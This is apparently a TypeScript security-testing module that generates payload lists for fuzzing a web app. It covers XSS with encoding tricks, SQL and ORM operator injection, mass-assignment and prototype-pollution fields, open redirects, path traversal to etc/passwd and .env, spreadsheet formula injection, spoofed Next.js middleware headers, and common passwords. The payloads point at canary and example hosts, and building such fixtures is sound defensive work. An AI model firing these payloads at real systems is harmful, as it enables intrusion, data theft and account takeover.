// What people try who mean harm, put together by rule: every list is the product of a few short ones, so that it covers all of their
// combinations and says by itself what it covers. Nothing here is taken from a collection.

/** A program that says that it ran, and a host that nobody has. */
export const RAN = "window.__ran=1";
const AWAY = "//canary.invalid";

/** One more than the last of `list` in turn: every element is used before one is used again. */
export const inTurn = <T>(list: readonly T[]): (() => T) => {
  let at = 0;
  return () => list[at++ % list.length]!;
};

/** Every so-manieth of a list, `most` of them, from its beginning to its end. */
export const spread = <T>(list: readonly T[], most: number): T[] =>
  list.length <= most ? [...list] : Array.from({ length: most }, (_, i) => list[Math.floor((i * list.length) / most)]!);

/** The text with a sign in place of each half of a character: addresses and forms hold whole ones. */
export const wellFormed = (text: string): string => text.replace(/\p{Surrogate}/gu, "\uFFFD");

const unique = (list: readonly string[]): string[] => [...new Set(list)];
const product = <A, B, C>(some: readonly A[], others: readonly B[], make: (one: A, other: B) => C): C[] =>
  some.flatMap((one) => others.map((other) => make(one, other)));

// Scripts in texts.

const HANDLING = {
  img: "src=x",
  svg: "",
  video: "src=x",
  audio: "src=x",
  body: "",
  iframe: "src=about:blank",
  details: "open",
  input: "autofocus",
  select: "autofocus",
  textarea: "autofocus",
  marquee: "",
  object: "data=x",
  embed: "src=x",
  button: "autofocus",
  a: 'href="#x" tabindex=1',
  div: "tabindex=1",
  form: "",
  "x-y": "tabindex=1",
  math: "",
  style: "",
  link: "rel=stylesheet href=x",
  script: "src=x",
  picture: "",
  dialog: "open",
  meter: "tabindex=1",
  frameset: "",
} as const;
const EVENTS = [
  "onload",
  "onerror",
  "onfocus",
  "onclick",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onpointerenter",
  "onbegin",
  "onscroll",
  "ontransitionend",
  "onbeforeinput",
  "onpageshow",
  "onauxclick",
];

/** Elements with a handler each. */
const handlers = product(Object.entries(HANDLING), EVENTS, ([tag, more], event) => `<${tag} ${more} ${event}=${RAN}>`);

/** The same call, written so that a list of forbidden words would not know it. */
const WRITINGS: readonly ((call: string) => string)[] = [
  (call) => call,
  (call) => [...call].map((letter) => `&#${letter.codePointAt(0)!};`).join(""),
  (call) => [...call].map((letter) => `&#x${letter.codePointAt(0)!.toString(16)}`).join(";"),
  (call) => encodeURIComponent(call),
  (call) => call.replace("window", "w\\u0069ndow"),
  (call) => `self['__'+'ran']=1;//${call.length}`,
  (call) => `(()=>{${call}})()`,
  (call) => `/*${"-".repeat(3)}*/${call}/**/`,
];

/** How an attribute may begin and end, and what may stand between a tag and it. */
const QUOTES: readonly ((event: string, call: string) => string)[] = [
  (event, call) => ` ${event}="${call}"`,
  (event, call) => ` ${event}='${call}'`,
  (event, call) => `/${event}=\`${call}\``,
  (event, call) => `\t${event}\n=\n"${call}"`,
  (event, call) => `\f${event.toUpperCase()}=${call.replaceAll(" ", "")}`,
  (event, call) => ` x="<" ${event}="${call}"`,
  (event, call) => ` ${event} = ${call}//`,
];
const quoted = ["img src=x", "svg", "details open", "input autofocus", "body", "video src=x"].flatMap((tag, i) =>
  product(
    WRITINGS,
    QUOTES,
    (writing, quote) => `<${tag}${quote(["onerror", "onload", "ontoggle", "onfocus", "onpageshow", "onerror"][i]!, writing(RAN))}>`,
  ),
);

/** Addresses that run, in every place for an address, written in every way. */
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "java&#10;script:",
  "&#106;avascript:",
  "\u0001javascript:",
  " javascript:",
  "javascript&colon;",
  "vbscript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD4=,",
  "jar:javascript:",
  "view-source:javascript:",
  "blob:javascript:",
  "feed:javascript:",
];
const ADDRESSES: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form action="${to}"><button>x</button></form>`,
  (to) => `<button formaction='${to}'>x</button>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`,
  (to) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
  (to) => `<math href="${to}"><mi>x</mi></math>`,
  (to) => `<area href="${to}">`,
  (to) => `<base href="${to}">`,
  (to) => `<img src="${to}">`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `[x](${to})`,
  (to) => `![x](${to})`,
  (to) => `<${to}>`,
  (to) => `\\(\\href{${to}}{x}\\)`,
];
const addresses = product(SCHEMES, ADDRESSES, (scheme, place) => place(`${scheme}${RAN}`));

/** What breaks out of the place it was put into, before what would then run. */
const WAYS_OUT = [
  "",
  '">',
  "'>",
  "`>",
  "-->",
  "]]>",
  "</script>",
  "</style>",
  "</title>",
  "</textarea>",
  "</noscript>",
  "</template>",
  "</select>",
  "</svg>",
  "</math>",
  "</span></p></div></main>",
  '\\">',
  "%22%3E",
  '\u2028">',
  "*/",
  "${",
  "{{",
  "<!--",
  "<![CDATA[",
  '\0">',
  "﹤",
  '\uD83D">',
  "</ script >",
];
const RUNNERS = [
  `<script>${RAN}</script>`,
  `<script/x>${RAN}</script/x>`,
  `<SCRIPT SRC=${AWAY}/s></SCRIPT>`,
  `<scr<script>ipt>${RAN}</scr</script>ipt>`,
  `<svg><script>${RAN}</script></svg>`,
  `<svg><set attributeName=href to=javascript:${RAN}>`,
  `<svg><animate onbegin=${RAN} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RAN}></annotation-xml></math>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
  `<style>@import "${AWAY}/css";*{background:url(${AWAY}/bg)}</style>`,
  `<p style="background:url(${AWAY}/p)">`,
  `<link rel=preload as=image href=${AWAY}/l>`,
  `<img srcset="${AWAY}/set 1x">`,
  `<img src=x onerror=${RAN}>`,
  `<table background=${AWAY}/t><tr><td>x`,
  `<noscript><p title="</noscript><img src=x onerror=${RAN}>">`,
  `<math><mtext><table><mglyph><style></mglyph><img src=x onerror=${RAN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RAN}>`,
  `<template shadowrootmode=open><script>${RAN}</script></template>`,
  `<input type=image src=x onerror=${RAN}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}/m">`,
  `<object type="text/html" data="data:text/html,<script>parent.__ran=1</script>">`,
  `<video><source onerror=${RAN}></video>`,
  `constructor.constructor('${RAN}')()`,
  `alert(1)//`,
  `<?xml-stylesheet href="${AWAY}/x"?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "${AWAY}/e">]>&y;`,
];
const broken = product(WAYS_OUT, RUNNERS, (out, runner) => `${out}${runner}`);

/** Texts that would run, load or lead away in a page that took them for more than words; each once. */
export const SCRIPTS: readonly string[] = unique([...handlers, ...quoted, ...addresses, ...broken]);

// Statements in texts.

/** Whatever the database runs of it leaves a trace, even where it is taken back: `footing_canary()` counts in a sequence. */
const CALL = "footing_canary()";
const CLOSERS = ["", "'", "''", '"', "\\'", "')", "'))", "]", "%27", "\u02BC", "$$", "E'\\'"];
const CONTINUING = [
  ` OR ${CALL} IS NULL`,
  ` AND ${CALL} IS NOT NULL`,
  ` UNION SELECT ${CALL}`,
  ` UNION ALL SELECT NULL,${CALL},NULL`,
  `; SELECT ${CALL}`,
  `;CREATE TABLE footing_owned AS SELECT ${CALL}`,
  ` OR EXISTS(SELECT ${CALL})`,
  `||${CALL}||`,
  ` ORDER BY (SELECT ${CALL})`,
  ` LIMIT (SELECT ${CALL})`,
  ` OR 1=CAST((SELECT ${CALL}) AS int)`,
  `; COPY (SELECT ${CALL}) TO STDOUT`,
  `; DO $x$BEGIN PERFORM ${CALL}; END$x$`,
  ` OR 1 IN (SELECT ${CALL})`,
  `; UPDATE "Person" SET name = (SELECT ${CALL})::text`,
  `, (SELECT ${CALL})) RETURNING (SELECT ${CALL}`,
  `; PREPARE x AS SELECT ${CALL}; EXECUTE x`,
  ` RETURNING ${CALL}`,
  ` COLLATE "C" OR ${CALL}=1`,
  `::text||(SELECT ${CALL})`,
];
const ENDINGS = ["--", "-- -", "/*", ";", " OR ''='", ""];

/** Texts that would become part of a statement in one that was put together from text; each once. */
export const STATEMENTS: readonly string[] = unique(
  CLOSERS.flatMap((closer, c) =>
    CONTINUING.flatMap((more, m) => [0, 3].map((shift) => `${closer}${more}${ENDINGS[(c + m + shift) % ENDINGS.length]}`)),
  ),
);

/** What a filter of the database client would take for more than a value. */
export const OPERATORS: readonly unknown[] = [
  { not: "" },
  { not: null },
  { contains: "" },
  { startsWith: "" },
  { endsWith: "" },
  { gt: "" },
  { gte: "" },
  { lt: "\uFFFF" },
  { lte: "\uFFFF" },
  { in: [""] },
  { notIn: [] },
  { equals: "" },
  { mode: "insensitive", contains: "" },
  { search: "a" },
  { OR: [{}] },
  { AND: [] },
  { NOT: {} },
  { some: {} },
  { every: {} },
  { none: {} },
  { is: null },
  { isNot: null },
  { set: 1 },
  { increment: 1 },
  { push: "x" },
  { path: ["x"], equals: 1 },
  { connect: { id: "x" } },
  { create: {} },
  { deleteMany: {} },
  { $ne: null },
  { $gt: "" },
  { $where: "1" },
  { toString: "x" },
  { valueOf: null },
  { length: 3 },
  { then: "x" },
  { toJSON: "x" },
  [],
  [""],
  [[""]],
  ["a", { not: "" }],
  {},
  null,
  true,
  false,
  0,
  -1,
  1e308,
  1.5,
  "",
  "NaN",
  "undefined",
  "null",
  "[object Object]",
];

// Fields that nobody may set.

/**
 * What is put beside what a form or a body may hold: names of columns, of roles, and of what every object inherits. `victim` is somebody
 * else.
 */
export function intruders(victim: string): readonly Readonly<Record<string, unknown>>[] {
  const mark = "qvforged";
  const fields: Record<string, unknown> = {
    id: victim,
    personId: victim,
    userId: victim,
    ownerId: victim,
    givenById: victim,
    mergedIntoId: victim,
    classId: victim,
    attemptId: victim,
    setId: victim,
    copiedFromId: victim,
    role: mark,
    isAdmin: true,
    admin: mark,
    isAnonymous: false,
    email: `${mark}@example.org`,
    emailVerified: true,
    points: 98_765_432,
    score: 98_765_432,
    isCorrect: true,
    correct: true,
    right: true,
    mark: mark,
    outcomes: [{ right: true, factId: mark }],
    startedAt: "1999-01-01T00:00:00Z",
    handedInAt: "1999-01-01T00:00:00Z",
    receivedAt: "1999-01-01T00:00:00Z",
    createdAt: "1999-01-01T00:00:00Z",
    deletedAt: "1999-01-01T00:00:00Z",
    locks: false,
    multiplier: 987,
    limitSeconds: 98_765_432,
    questionVersionId: victim,
    settings: { theme: mark },
    visibility: "link",
    revision: 98_765_432,
    seededFrom: mark,
    joinCode: mark,
    expiresAt: "2999-01-01T00:00:00Z",
    token: mark,
    password: mark,
  };
  const inherited = { headers: { "x-qvforged": "1" }, statusText: mark, status: 299, isAdmin: true };
  const raw = ['{"__proto__":', '{"constructor":{"prototype":', '{"prototype":'].map(
    (start) => JSON.parse(`${start}${JSON.stringify(inherited)}${start.includes("constructor") ? "}}" : "}"}`) as Record<string, unknown>,
  );
  return [...Object.entries(fields).map(([name, value]) => ({ [name]: value })), fields, ...raw];
}

// Addresses to lead away to.

const HOSTS = [
  "evil.example",
  "evil.example:80",
  "localhost@evil.example",
  "evil.example%2f",
  "evil.example\\@localhost",
  "127.0.0.1.evil.example",
  "[::1]",
  "0x7f000001",
  "evil。example",
  "xn--evil-9ma.example",
];
const LEADS = [
  "//",
  "///",
  "////",
  "/\\",
  "\\\\",
  "/\\/",
  "http:",
  "http://",
  "https://",
  "https:",
  "HTTPS://",
  "hTtp:/",
  "ftp://",
  "/%2f",
  "/%5c",
  "%2f%2f",
  "/\t/",
  "/\n/",
  "/ /",
  "\u0001//",
  "/./",
  "/..//",
  "/;@",
  "/.",
  "@",
  "?",
  "#//",
  "javascript://",
  "data:text/html,",
  "/%09/",
  "/％2f",
  "／／",
  "/%00/",
];

/** Addresses that would lead to another host; each once. */
export const REDIRECTS: readonly string[] = unique(product(LEADS, HOSTS, (lead, host) => `${lead}${host}`));

// Paths out of a folder.

const UPS = [
  "../",
  "..\\",
  "..%2f",
  "..%5c",
  "%2e%2e/",
  "%2e%2e%2f",
  "%252e%252e%252f",
  "..%c0%af",
  "..%u2215",
  "....//",
  "..;/",
  ".%00./",
  "..%ef%bc%8f",
  "/./../",
];
const ENDS = ["etc/passwd", "package.json", ".env", ".data/secrets.json", "server/db.ts", "proc/self/environ", "BUILD_ID"];
const DEPTHS = [1, 4, 9];

/** Paths that would lead out of a folder; each once. */
export const PATHS: readonly string[] = unique(UPS.flatMap((up) => product(DEPTHS, ENDS, (depth, end) => up.repeat(depth) + end)));

// Cells that a spreadsheet would work out.

const SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'="];
const WORKED_OUT = ["1+1", `HYPERLINK("http:${AWAY}/","x")`, `cmd|'/c calc'!A0`, `WEBSERVICE("http:${AWAY}/")`];

/** Texts that a spreadsheet would take for a formula; each once. */
export const FORMULAS: readonly string[] = unique(product(SIGNS, WORKED_OUT, (sign, work) => `${sign}${work}`));

// Names.

/** Names that are not what they seem, or that some part of a program has no place for. */
export const NAMES: readonly string[] = unique([
  "a\0b",
  "\0",
  "\u202Egnp.exe",
  "a\u202Eb\u202C",
  "\u2066x\u2069",
  "\u200B",
  "a\u200Bb",
  "\uFEFF",
  "x\u0301".repeat(50),
  `Z${"\u0335".repeat(200)}`,
  "x".repeat(10_000),
  "😀".repeat(500),
  "\uD800",
  "\uDC00x",
  "null",
  "undefined",
  "true",
  "NaN",
  "constructor",
  "__proto__",
  "toString",
  "hasOwnProperty",
  "<b>",
  "Ann\r\nSet-Cookie: x=1",
  "Ann\nLine",
  "\t",
  " ",
  "　",
  "ａｄｍｉｎ",
  "аdmin",
  "Teacher",
  "{{name}}",
  "${7*7}",
  "%s%n%x",
  "$&$'",
  "\\",
  "/",
  "../..",
  "''",
  '"',
  "`",
  ";--",
  "(",
  "[",
  "{",
  "$(id)",
  "|id",
  "&",
  "%00",
  "%",
  "\u001B[31m",
  "\u0007",
  "ﷺ".repeat(20),
  "ʼ",
  "İ",
  "ß",
]);

// Headers.

/** Headers that say of a request what is not so. */
export const HEADERS: readonly Readonly<Record<string, string>>[] = [
  { "x-forwarded-host": "evil.example" },
  { "x-forwarded-proto": "javascript" },
  { "x-forwarded-proto": "https, http" },
  { "x-forwarded-for": "127.0.0.1" },
  { "x-forwarded-for": "x".repeat(4_000) },
  { "x-real-ip": "127.0.0.1" },
  { forwarded: "for=127.0.0.1;host=evil.example" },
  { "x-original-url": "/account" },
  { "x-rewrite-url": "/account" },
  { "x-middleware-subrequest": "proxy:proxy:proxy:proxy:proxy" },
  { "x-middleware-rewrite": "http://evil.example/" },
  { "x-middleware-next": "1" },
  { "x-middleware-set-cookie": "footing=x" },
  { "x-invoke-path": "/account" },
  { "x-invoke-status": "500" },
  { "x-matched-path": "/account" },
  { "x-nextjs-data": "1" },
  { "x-prerender-revalidate": "x" },
  { "x-now-route-matches": "1=account" },
  { "next-resume": "1" },
  { "next-action": "x" },
  { "next-action": "0".repeat(42) },
  { rsc: "1", "next-router-state-tree": "%5B" },
  { "next-router-state-tree": "x".repeat(3_000) },
  { "next-url": "/account" },
  { "content-security-policy": "script-src 'unsafe-inline'" },
  { "x-nonce": "x" },
  { "x-request-id": "x".repeat(500) },
  { accept: "x".repeat(2_000) },
  { "accept-language": "../../x" },
  { cookie: "footing=x; footing=y; __Host-footing=z" },
  { cookie: `footing=${"x".repeat(3_000)}` },
  { cookie: "=; ;;=" },
  { range: "bytes=0-,0-,0-" },
  { "if-none-match": "*" },
  { "transfer-encoding": "", te: "trailers" },
  { "upgrade-insecure-requests": "1" },
  { origin: "null" },
  { origin: "x" },
  { referer: "javascript:1" },
  { "sec-fetch-site": "none" },
  { "user-agent": "<script>1</script>" },
  { "content-encoding": "gzip" },
  { expect: "x" },
];

// Passwords.

const COMMON = [
  "password",
  "qwerty",
  "letmein",
  "welcome",
  "dragon",
  "monkey",
  "football",
  "iloveyou",
  "sunshine",
  "princess",
  "admin",
  "master",
  "shadow",
  "superman",
  "michael",
  "charlie",
  "abc",
  "login",
  "starwars",
  "secret",
];
const AROUND = [
  "",
  "1",
  "12",
  "123",
  "1234",
  "!",
  "1!",
  "2024",
  "2025!",
  "00",
  "007",
  "#1",
  "99",
  "123456",
  "..",
  "@1",
  "_1",
  "x1x".replaceAll("x", ""),
];
const LIKE: readonly ((word: string) => string)[] = [
  (word) => word,
  (word) => word.toUpperCase(),
  (word) => word[0]!.toUpperCase() + word.slice(1),
  (word) => word.replaceAll("o", "0"),
  (word) => word.replaceAll("a", "@").replaceAll("s", "$"),
  (word) => word.replaceAll("i", "1").replaceAll("e", "3"),
  (word) => word + word,
  (word) => ([...word].reverse().join("") === word ? word : word),
];
const ROWS = [
  "12345678",
  "123456789",
  "1234567890",
  "87654321",
  "00000000",
  "11111111",
  "qwertyui",
  "asdfghjk",
  "zxcvbnm,",
  "1q2w3e4r",
  "1qaz2wsx",
  "qazwsxed",
  "abcdefgh",
  "aaaaaaaa",
  "abababab",
  "19991231",
  "31121999",
  "20250101",
];

/**
 * Passwords that are tried first: common words with what people put about them, rows of keys, dates; of eight letters or more, each once.
 */
export const COMMON_PASSWORDS: readonly string[] = unique(
  [...COMMON.flatMap((word) => product(LIKE, AROUND, (like, more) => like(word) + more)), ...ROWS].filter((word) => word.length >= 8),
);
